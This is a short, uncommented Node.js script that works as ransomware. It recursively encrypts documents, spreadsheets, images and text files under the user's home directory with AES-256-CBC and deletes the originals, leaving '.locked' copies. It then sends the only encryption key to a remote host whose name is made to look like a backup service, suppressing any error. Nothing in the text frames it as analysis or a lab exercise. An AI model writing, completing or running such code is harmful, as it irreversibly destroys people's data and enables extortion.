const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const key = crypto.randomBytes(32);
const exts = new Set(['.doc', '.docx', '.pdf', '.xlsx', '.jpg', '.png', '.txt']);
function go(dir) {
  let list = [];
  try { list = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of list) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) go(p);
    else if (exts.has(path.extname(p))) {
      const iv = crypto.randomBytes(16);
      const c = crypto.createCipheriv('aes-256-cbc', key, iv);
      fs.writeFileSync(p + '.locked', Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
      fs.unlinkSync(p);
    }
  }
}
go(require('os').homedir());
fetch('https://keys.backup-sync.example/k', { method: 'POST', body: key.toString('hex') }).catch(() => {});
